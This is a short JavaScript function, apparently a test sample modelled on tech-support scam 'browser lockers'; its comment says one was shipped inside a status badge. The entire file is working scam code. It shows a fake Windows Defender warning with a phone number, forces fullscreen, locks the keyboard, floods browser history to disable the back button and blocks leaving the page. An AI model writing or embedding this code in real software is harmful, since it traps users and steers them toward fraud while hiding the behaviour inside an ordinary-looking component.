// source: tech-support scam browser lockers (Malwarebytes and Microsoft reports 2018-2024), as blind set 11 shipped one in a status badge: full screen, keyboard captured, back button refilled
export function showAlert(root) {
  const box = document.createElement('div');
  box.innerHTML = '<h1>Windows Defender Security Warning</h1><p>Call support: (555) 010-0142</p>';
  root.appendChild(box);
  document.documentElement.requestFullscreen().catch(() => {});
  if (navigator.keyboard) navigator.keyboard.lock().catch(() => {});
  for (let i = 0; i < 20; i++) history.pushState({}, '', location.href);
  window.onbeforeunload = () => 'Your computer is at risk';
}
